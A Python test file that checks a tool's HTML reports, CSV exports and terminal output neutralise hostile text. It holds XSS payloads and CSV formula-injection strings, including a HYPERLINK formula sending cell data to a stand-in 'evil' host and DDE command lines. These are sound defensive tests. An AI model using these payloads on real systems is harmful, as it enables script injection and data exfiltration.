"""Group G, 93 and 94: what people named, in everything that we write. Text stays text."""

import csv
import io
import re
from collections.abc import Mapping
from dataclasses import dataclass
from functools import cache
from html.parser import HTMLParser
from pathlib import Path

import pytest

from agents import Follower
from assistant import (
    Constraint,
    Experiment,
    Fact,
    Measure,
    Objective,
    SingleMeasure,
    Sla,
    open_session,
)
from assistant.cli.main import run
from assistant.core.errors import RunError
from assistant.executors.serial import SerialExecutor
from assistant.presentation.report.data import collect
from assistant.presentation.report.html import render_html
from assistant.store.event_store import MemoryStore
from assistant.ui.labels import escape_markdown
from assistant.ui.pages.report import runs_csv
from strategies import Level, Parameter, ParameterSpace
from tests.assistant.examples import TickingClock

MARKUP = {
    "G94 img onerror": '"><img src=x onerror=alert(1)>',
    "G94 end of a script": "</script><script>alert(1)</script>",
    "G94 end of a style": "</style><style>*{display:none}</style>",
    "G94 end of a title": "</title><svg/onload=alert(1)>",
    "G94 javascript:": "javascript:alert(1)",
    "G94 a link": "<a href='javascript:alert(1)'>x</a>",
    "G94 end of CDATA": "]]><script>alert(1)</script>",
    "G94 end of a comment": "--><script>alert(1)</script>",
    "G94 an entity": "&lt;img src=x onerror=alert(1)&gt;",
    "G94 an attribute": "' onmouseover='alert(1)",
    "G94 a template": "{{ 7 * 7 }}{% for x in y %}",
    "G94 an expression of Vega": "' + alert(1) + '",
}
FORMULAS = {
    "G93 =HYPERLINK": '=HYPERLINK("http://evil/?"&A1,"x")',
    "G93 +1": "+1+cmd|' /C calc'!A0",
    "G93 @SUM": "@SUM(1)",
    "G93 -": "-2+3+cmd|' /C calc'!A0",
    "G93 TAB=": "\t=1+1",
    "G93 CR=": "\r=1+1",
}


def everything_is(text: str) -> Experiment:
    """A steered sweep in which every text that people may give is this one."""
    level = " ".join("".join(c if c.isprintable() else " " for c in text).split())

    @dataclass(frozen=True)
    class Named:
        name = "own"
        space = ParameterSpace(
            (
                Parameter("mode", (level, "other", "third"), unit=text, description=text),
                Parameter("x", (1, 2, 3, 4), unit=text, description=text),
            )
        )
        objective = Objective(
            SingleMeasure(text),
            constraints=(Constraint(f"{text} limit", at_most=100.0, label=text),),
            unit=text,
        )
        facts = (Fact(text, text),)
        baseline: Mapping[str, Level] | None = None

        def evaluate(self, values: Mapping[str, Level], seed: int) -> Mapping[str, Measure]:
            x = int(values["x"])
            if x == 3:
                raise RunError(text)
            return {text: float(x + len(str(values["mode"]))), f"{text} limit": float(x)}

    application = Named()
    session = open_session(
        application, store=MemoryStore(), sla=Sla(11), clock=TickingClock(), name=text,
        experiment_id="n",
    )  # fmt: skip
    session.include({"mode": level, "x": 1}, reason=text)
    executor = SerialExecutor(application)
    session.run_queued(executor)
    Follower(initial=4, batch=3).steer(session, executor)
    session.finish(text)
    assert any(one.failure for one in session.experiment.runs)
    return session.experiment


class Page(HTMLParser):
    """What a browser would make of a page: its elements, and what in them could act."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.live: list[str] = []
        self.text: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        for name, value in attrs:
            if name == "aria-label":  # words for a reader of screens, no address
                continue
            told = (value or "").strip().lower()
            if name.startswith("on") or told.startswith(("javascript:", "data:text", "vbscript:")):
                self.live.append(f"<{tag} {name}={value}>")

    def handle_data(self, data: str) -> None:
        self.text.append(data)


@cache
def plain() -> Experiment:
    return everything_is("word")


@cache
def plain_tags() -> set[str]:
    return Page(render_html(collect(plain()))).tags


@pytest.mark.slow
@pytest.mark.parametrize("text", MARKUP.values(), ids=MARKUP)
def test_a_report_holds_no_markup_of_others(text: str) -> None:
    page = render_html(collect(everything_is(text)))
    seen = Page(page)
    assert seen.live == []
    assert seen.tags <= plain_tags()
    assert not seen.tags & {"script", "img", "iframe", "object", "embed", "link", "base", "form"}
    assert text in "".join(seen.text)
    assert not re.search(r"@import|url\((?!#)", page)


def test_the_parser_sees_what_it_shall_see() -> None:
    seen = Page("<p onclick='x'><a href=' JavaScript:x'>a</a><script>b</script></p>")
    assert len(seen.live) == 2
    assert "script" in seen.tags


@pytest.mark.parametrize("text", FORMULAS.values(), ids=FORMULAS)
def test_no_cell_of_the_runs_is_a_formula(text: str) -> None:
    written = runs_csv(everything_is(text))
    rows = list(csv.reader(io.StringIO(written)))
    cells = [cell for row in rows for cell in row]
    assert any(text.strip() in cell for cell in cells)
    for cell in cells:
        number = re.fullmatch(r"-?\d+(\.\d+)?(e-?\d+)?", cell)
        assert number or not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_g93_numbers_stay_numbers() -> None:
    rows = list(csv.DictReader(io.StringIO(runs_csv(plain()))))
    values = [row["word [word]"] for row in rows if row["word [word]"]]
    assert values
    assert all(float(value) > 0 for value in values)


LOG = """; MaxProcs: 8
1 0 -1 100 4 -1 -1 4 200 -1 1 1 1 -1 1 -1 -1 -1
2 10 -1 50 8 -1 -1 8 60 -1 1 1 1 -1 1 -1 -1 -1
"""


def test_g93_a_partition_of_that_name_in_the_table_of_jobs(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "l.swf").write_text(LOG)
    told = ["simulate", "l.swf", "--partition", "=1+1:8", "--per-job", "jobs.csv"]
    assert run(told) == 0
    rows = list(csv.DictReader((tmp_path / "jobs.csv").read_text().splitlines()))
    assert {row["partition"] for row in rows} == {"'=1+1"}


@pytest.mark.parametrize("text", MARKUP.values(), ids=MARKUP)
def test_the_browser_draws_no_tag_and_no_link(text: str) -> None:
    drawn = escape_markdown(f"{text} ![a](http://evil/p.png) [b](javascript:alert(1)) :red[c]")
    assert not re.search(r"(?<!\\)[<\[]", drawn)


ESCAPED_HTML = {"_STYLE", "_NARROW_TILES", "_cells", "course"}
"""What is drawn as HTML: constants, and functions that escape what they are given."""


def test_g94_nothing_in_the_browser_is_raw_html(repository: Path) -> None:
    for path in [*(repository / "assistant" / "ui").rglob("*.py"), repository / "streamlit_app.py"]:
        text = path.read_text(encoding="utf-8")
        assert "unsafe_allow_html" not in text, path
        calls = set(re.findall(r"st\.html\((\w+)", text))
        assert calls <= ESCAPED_HTML, f"{path}: {calls - ESCAPED_HTML}"
        assert "components" not in text, path


def test_g94_a_terminal_is_told_no_escape_sequences(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "bad.toml").write_text('"\\u001b[31mred\\nline" = 1\n')
    assert run(["sweep", "bad.toml"]) == 2
    told = capsys.readouterr().err
    assert "\x1b" not in told
    assert len(told.strip().splitlines()) == 1
